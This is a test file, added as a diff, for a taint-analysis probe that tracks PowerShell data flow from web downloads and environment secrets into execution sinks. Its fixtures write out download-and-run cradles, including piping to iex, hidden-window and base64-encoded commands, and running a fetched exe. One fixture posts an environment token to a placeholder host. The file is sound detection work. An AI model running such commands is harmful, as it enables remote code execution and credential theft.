@@ -1,0 +1,97 @@
+import type { TaintProbe } from '@clawback/model'
+
+import { expect, test } from 'vitest'
+
+import { factsOf } from '../testkit.js'
+
+const probe: TaintProbe = {
+  kind: 'taint',
+  id: 'flow',
+  pack: 'test',
+  language: 'powershell',
+  tags: [],
+  sources: [
+    { tag: 'remote', pattern: 'invoke-webrequest' },
+    { tag: 'remote', pattern: 'invoke-restmethod' },
+    { tag: 'remote', pattern: 'start-bitstransfer' },
+    { tag: 'remote', pattern: '*.downloadstring' },
+    { tag: 'remote', pattern: '*.downloadfile' },
+    { tag: 'secret', pattern: 'env.TOKEN' },
+  ],
+  sinks: ['invoke-expression', '&', 'start-process', 'scriptblock.create', 'invoke-restmethod'].map(
+    (pattern) => ({ tag: 'sink', pattern }),
+  ),
+  sanitizers: [],
+}
+
+async function flowsOf(text: string): Promise<readonly string[]> {
+  const facts = await factsOf({ 'a.ps1': text }, [probe])
+  return facts.flatMap((fact) =>
+    fact.kind === 'code.flow'
+      ? [`${String(fact['code.flow.source'])} > ${String(fact['code.flow.sink'])}`]
+      : [],
+  )
+}
+
+test.each([
+  ['a pipe', 'iwr "https://a.test/x" | iex', 'invoke-webrequest(https://a.test/x) > invoke-expression'],
+  [
+    'a variable, an alias, a member of what came',
+    '$U = "https://a.test/x"\n$r = irm $u\nIEX ($R).Content',
+    'invoke-restmethod(https://a.test/x) > invoke-expression',
+  ],
+  [
+    'a method of an object',
+    "(New-Object Net.WebClient).DownloadString('https://a.test/x') | IEX",
+    '?.downloadstring(https://a.test/x) > invoke-expression',
+  ],
+  [
+    'a block made of a text',
+    '& ([scriptblock]::Create((irm https://a.test/x)))',
+    'invoke-restmethod(https://a.test/x) > &',
+  ],
+  [
+    'a file that was left and started',
+    'Start-BitsTransfer -Source https://a.test/x -Destination $env:TEMP\\x.exe\nStart-Process "${env:temp}\\x.exe"',
+    'start-bitstransfer(https://a.test/x) > start-process',
+  ],
+  [
+    'a file left by a method',
+    '$wc = New-Object Net.WebClient\n$wc.DownloadFile("https://a.test/x", "$HOME\\x.exe")\n& "$env:USERPROFILE\\x.exe"',
+    'wc.downloadfile(https://a.test/x) > &',
+  ],
+  [
+    'a table of fields',
+    'irm https://a.test/in -Method Post -Body @{ a = 1; b = "t: $env:Token" }',
+    'env.TOKEN > invoke-restmethod',
+  ],
+  [
+    'a text handed to another one',
+    'powershell -NoP -W Hidden -c "iex (iwr https://a.test/x)"',
+    'invoke-webrequest(https://a.test/x) > invoke-expression',
+  ],
+  [
+    'an encoded command',
+    `pwsh.exe -enc ${Buffer.from('iwr https://a.test/x | iex', 'utf16le').toString('base64')}`,
+    'invoke-webrequest(https://a.test/x) > invoke-expression',
+  ],
+])('data is followed through %s', async (_, text, flow) => {
+  expect(await flowsOf(text)).toContain(flow)
+})
+
+test('what is fetched and kept is not run', async () => {
+  expect(
+    await flowsOf('iwr https://a.test/x -OutFile x.zip\nExpand-Archive x.zip\nStart-Process b.exe'),
+  ).toEqual([])
+})
+
+test('a block that another command is given is looked at by itself', async () => {
+  expect(await flowsOf('Start-Job { irm https://a.test/x | iex }')).toEqual([
+    'invoke-restmethod(https://a.test/x) > invoke-expression',
+  ])
+})
+
+test('a shell that starts it hands it code of its own', async () => {
+  const facts = await factsOf({ 'a.sh': 'powershell.exe -Command "iwr https://a.test/x | iex"\n' }, [probe])
+  expect(facts.filter(({ kind }) => kind === 'code.flow')).toHaveLength(1)
+})
